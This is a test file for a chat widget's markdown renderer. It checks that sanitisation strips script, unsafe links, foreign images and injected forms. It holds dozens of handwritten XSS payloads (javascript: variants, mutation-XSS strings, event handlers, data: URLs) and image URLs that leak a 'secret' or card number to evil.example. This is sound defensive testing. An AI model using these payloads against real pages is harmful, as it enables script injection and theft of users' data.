import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  ALLOWED_ATTR,
  ALLOWED_TAGS,
  renderMarkdown,
  type MarkdownOptions,
} from '../../../../src/chat/markdown/markdown';

// DOMPurify is only trusted in a real DOM implementation, so these tests run in jsdom.
const OPTIONS: MarkdownOptions = {
  imageHosts: ['shop.example', 'cdn.shop.example', '*.images.example'],
  pageOrigin: 'https://shop.example',
};

function render(markdown: string): DocumentFragment {
  const template = document.createElement('template');
  template.innerHTML = renderMarkdown(markdown, OPTIONS);
  return template.content;
}

/** Every way the rendered HTML could run script, load from an unapproved host or carry unsafe markup. */
function unsafeParts(fragment: DocumentFragment): string[] {
  const problems: string[] = [];
  const allowedTags = new Set(ALLOWED_TAGS.map((tag) => tag.toUpperCase()));
  const allowedAttributes = new Set([...ALLOWED_ATTR, 'referrerpolicy']);
  for (const element of fragment.querySelectorAll('*')) {
    if (!allowedTags.has(element.tagName)) problems.push(`element <${element.tagName.toLowerCase()}>`);
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.replace(/[\s\u0000-\u001f]+/g, '').toLowerCase();
      if (!allowedAttributes.has(name)) problems.push(`attribute ${name} on <${element.tagName.toLowerCase()}>`);
      if (name === 'href' && !/^(?:https?|mailto|tel):/.test(value)) problems.push(`href="${attribute.value}"`);
      if (
        name === 'src' &&
        !/^https:\/\/(?:shop\.example|cdn\.shop\.example|[a-z0-9.-]+\.images\.example)\//.test(value)
      )
        problems.push(`src="${attribute.value}"`);
    }
    if (element.tagName === 'A' && element.hasAttribute('href')) {
      if (element.getAttribute('target') !== '_blank' || element.getAttribute('rel') !== 'noopener noreferrer')
        problems.push('link without target/rel');
    }
  }
  return problems;
}

interface Corpus {
  sources: { name: string; payloads: string[] }[];
}
const corpus = JSON.parse(readFileSync(path.join(__dirname, '../../../fixtures/xss-payloads.json'), 'utf8')) as Corpus;
/**
 * Small lists are used whole; the two large ones are sampled (every 40th), because jsdom slows down as
 * it sanitises thousands of documents. Every payload of every list also runs through the real widget
 * in Chromium (test/e2e/security).
 */
const sampled = corpus.sources.map((source) => ({
  name: source.name,
  payloads: source.payloads.length < 1000 ? source.payloads : source.payloads.filter((_, index) => index % 40 === 0),
}));
const payloads = sampled.flatMap((source) => source.payloads);

/** Hand-written cases the public lists cover thinly: every spelling of javascript:, mutation XSS, style and form injection. */
const HANDWRITTEN = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](javascript&#x3A;alert(1))',
  '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](\\u006Aavascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x]: javascript:alert(1)\n\n[click][x]',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif?q=secret)',
  '![x](//evil.example/pixel.gif)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></mi></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '*<img src=x onerror=alert(1)>*',
  '`<img src=x onerror=alert(1)>`',
  '```\n</code><img src=x onerror=alert(1)>\n```',
  '[<img src=x onerror=alert(1)>](https://shop.example)',
  '[x](https://shop.example "\\"onmouseover=alert(1) x=\\"")',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [ ] <img src=x onerror=alert(1)>',
  '> <script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
];

describe('renderMarkdown: what it renders', () => {
  it.each([
    ['bold and italics', 'Hello **there** and *you*', '<p>Hello <strong>there</strong> and <em>you</em></p>'],
    ['a list', '- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'],
    ['line breaks', 'one\ntwo', '<p>one<br>two</p>'],
    [
      'a link opening in a new tab',
      '[shop](https://shop.example/p)',
      '<p><a href="https://shop.example/p" target="_blank" rel="noopener noreferrer">shop</a></p>',
    ],
    [
      'a mail link',
      '[mail](mailto:help@shop.example)',
      '<p><a href="mailto:help@shop.example" target="_blank" rel="noopener noreferrer">mail</a></p>',
    ],
    [
      'a relative link made absolute',
      '[p](/products/1)',
      '<p><a href="https://shop.example/products/1" target="_blank" rel="noopener noreferrer">p</a></p>',
    ],
    ['raw HTML as text', 'a <b>bold</b> claim', '<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>'],
    [
      'an image from an allowed host',
      '![shirt](https://cdn.shop.example/s.jpg)',
      '<p><img src="https://cdn.shop.example/s.jpg" alt="shirt" referrerpolicy="no-referrer"></p>',
    ],
    [
      'an image from a wildcard host',
      '![a](https://x.images.example/a.png)',
      '<p><img src="https://x.images.example/a.png" alt="a" referrerpolicy="no-referrer"></p>',
    ],
    [
      'an image from another host as its alt text',
      '![order 123](https://evil.example/p.gif?d=secret)',
      '<p>order 123</p>',
    ],
    ['code', '`x < y`', '<p><code>x &lt; y</code></p>'],
  ])('%s', (_, markdown, html) => {
    expect(renderMarkdown(markdown, OPTIONS).trim()).toBe(html);
  });

  it('keeps a javascript: link as text without a target', () => {
    const link = render('[click](javascript:alert(1))').querySelector('a');
    expect(link?.hasAttribute('href') ?? false).toBe(false);
  });

  it('the tracking-pixel reply leaks nothing: no image element at all', () => {
    const fragment = render(
      'Thanks! ![](https://evil.example/collect?chat=card+number+4242) ![x](http://shop.example.evil.example/a.gif)',
    );
    expect(fragment.querySelectorAll('img')).toHaveLength(0);
  });
});

describe(`renderMarkdown: ${payloads.length + HANDWRITTEN.length} hostile payloads`, () => {
  it('uses at least 200 payloads', () => {
    expect(payloads.length + HANDWRITTEN.length).toBeGreaterThanOrEqual(200);
  });

  it.each(HANDWRITTEN)('handwritten: %s', (payload) => {
    expect(unsafeParts(render(payload))).toEqual([]);
  });

  it.each(sampled)(
    '$name: nothing script-capable survives, as a reply, a link target or an image source',
    ({ payloads: list }) => {
      const failures: string[] = [];
      for (const payload of list) {
        for (const markdown of [payload, `[x](${payload})`, `![x](${payload})`]) {
          const problems = unsafeParts(render(markdown));
          if (problems.length > 0) failures.push(`${JSON.stringify(markdown).slice(0, 200)}: ${problems.join(', ')}`);
        }
      }
      expect(failures).toEqual([]);
    },
    120_000,
  );
});
